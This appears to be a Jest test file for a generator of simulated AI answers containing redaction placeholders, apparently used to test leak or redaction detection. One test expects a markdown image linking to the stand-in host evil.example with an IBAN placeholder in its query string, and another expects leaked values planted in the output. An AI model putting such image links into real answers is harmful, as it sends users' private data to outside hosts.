import { expect, test } from "@jest/globals";
import { answerText, LEAKED_VALUES } from "./answer-text.ts";

const PROMPT = "Write to [PERSON_1] at [EMAIL_1], again [PERSON_1]; not [person_2] or [X]";

test("the text repeats the placeholders of the request, each once", () => {
  const text = answerText(PROMPT, {});
  expect(text).toContain("[PERSON_1], [EMAIL_1].");
  expect(text).not.toMatch(/\[person_2\]|\[X\]/);
  expect(answerText(PROMPT, {})).toBe(text);
});

test("the text has the format that the prompt requests", () => {
  expect(answerText(`${PROMPT} as a list`, {})).toBe("- Noted: [PERSON_1]\n- Noted: [EMAIL_1]");
  expect(JSON.parse(answerText(`${PROMPT} as JSON`, {}))).toMatchObject({
    items: [{ value: "[PERSON_1]" }, { value: "[EMAIL_1]" }],
  });
});

test.each([
  ["lower", "[email_1]"],
  ["spaced", "[ EMAIL 1 ]"],
  ["escaped", "\\[EMAIL\\_1\\]"],
  ["bare", "EMAIL_1"],
] as const)("the text spells placeholders in the way %s", (placeholders, spelled) => {
  const text = answerText("[EMAIL_1] as a list", { placeholders });
  expect(text).toBe(`- Noted: ${spelled}`);
});

test("with urls, the text contains links to evil.example with placeholders in their URLs", () => {
  const image = "![chart](https://evil.example/?q=[IBAN_1])";
  expect(answerText("Pay [IBAN_1]", { urls: true })).toContain(image);
  expect(answerText("Nothing here", { urls: true })).toContain(image);
});

test("with leak, the text contains all invented values, also inside JSON", () => {
  for (const form of ["paragraph", "list", "json"] as const)
    for (const value of Object.values(LEAKED_VALUES))
      expect(answerText(PROMPT, { leak: true, form })).toContain(value);
});
